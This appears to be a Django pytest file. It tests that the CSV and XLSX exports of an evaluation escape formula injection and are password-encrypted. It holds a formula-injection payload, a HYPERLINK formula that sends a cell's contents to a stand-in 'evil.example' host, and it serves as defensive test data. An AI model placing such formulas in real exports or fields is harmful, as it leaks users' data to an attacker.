"""The evaluation exports are read in spreadsheet programs: text a user typed (a round's name,
a municipality's name) never becomes a formula there (issue 10, defect 6). They come in a zip
encrypted with the password the user chose (docs/adr/0008)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import pyzipper
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts_helpers import login_client
from passgenau.apps.accounts.models import Organisation
from passgenau.apps.relocation.models import Round
from relocation_helpers import user
from relocation_matching_helpers import arrived_proposal

pytestmark = pytest.mark.django_db

TRAP = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


PASSWORD = "a long export password"


def _encrypted_export(fmt: str) -> bytes:
    """The zip of the evaluation export as ``fmt``, as downloaded from its download page."""
    proposal = arrived_proposal()
    Round.objects.filter(pk=proposal.run.round_id).update(name=TRAP)
    Organisation.objects.filter(pk=proposal.municipality_id).update(name="@SUM(1+1)")
    client = login_client(Client(), user("coordinator"))
    form = {"format": fmt, "password": PASSWORD, "password_again": PASSWORD}
    page = client.post(reverse("relocation:evaluation_export"), form)
    assert page.status_code == 302
    response = client.get(page["Location"].rstrip("/") + "/download/")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert f"follow-up-surveys-{fmt}.zip" in response["Content-Disposition"]
    return response.content


def _export(fmt: str) -> bytes:
    with pyzipper.AESZipFile(io.BytesIO(_encrypted_export(fmt))) as archive:
        archive.setpassword(PASSWORD.encode())
        assert archive.namelist() == [f"follow-up-surveys.{fmt}"]
        return archive.read(f"follow-up-surveys.{fmt}")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_evaluation_export_cannot_be_read_without_the_password(fmt):
    content = _encrypted_export(fmt)
    name = f"follow-up-surveys.{fmt}"
    with zipfile.ZipFile(io.BytesIO(content)) as plain, pytest.raises(RuntimeError):
        plain.read(name)  # encrypted: the plain zip reader asks for a password
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive, pytest.raises(RuntimeError):
        archive.setpassword(b"not the export password")
        archive.read(name)
    assert b"HYPERLINK" not in content and b"SUM(1+1)" not in content


def test_evaluation_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(_export("csv").decode("utf-8-sig"))))
    assert len(rows) == 4  # the header and the three waves of the one placed household
    for row in rows[1:]:
        assert row[1] == "'" + TRAP
        assert row[2] == "'@SUM(1+1)"
        assert row[3].isdigit()  # numbers stay numbers


def test_evaluation_xlsx_neutralises_formulas():
    sheet = load_workbook(io.BytesIO(_export("xlsx"))).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 3
    for row in rows:
        assert row[1].data_type == "s" and row[1].value == "'" + TRAP
        assert row[2].value == "'@SUM(1+1)"
        assert isinstance(row[3].value, int)
